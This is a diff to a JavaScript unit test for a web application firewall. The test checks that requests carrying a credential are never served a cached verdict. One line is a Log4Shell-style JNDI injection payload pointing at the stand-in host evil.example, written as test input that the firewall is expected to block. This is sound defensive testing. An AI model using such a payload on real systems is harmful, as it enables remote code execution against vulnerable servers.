@@ -81,6 +81,19 @@ describe('remembered verdicts of bodiless requests', () => {
     expect(firewall.inspect(clean)).toBe(first);
   });
 
+  it('never remembers a request carrying a credential, and still judges the credential each time', () => {
+    const firewall = createFirewall();
+    const withToken = get('/api/v1/clock', { 'user-agent': 'Mozilla/5.0', authorization: 'Bearer abc' });
+    const first = firewall.inspect(withToken);
+    expect(first.action).toBe('allow');
+    const again = firewall.inspect(withToken);
+    expect(again).not.toBe(first);
+    expect(again).toEqual(first);
+    const attack = get('/api/v1/clock', { authorization: 'Bearer ${jndi:ldap://evil.example/a}' });
+    expect(firewall.inspect(attack).action).toBe('block');
+    expect(firewall.inspect(attack).action).toBe('block');
+  });
+
   it('never remembers requests with a body, and not at all when caching is off', () => {
     const firewall = createFirewall({ verdictCacheSize: 0 });
     const clean = get('/api/v1/clock', { 'user-agent': 'Mozilla/5.0' });
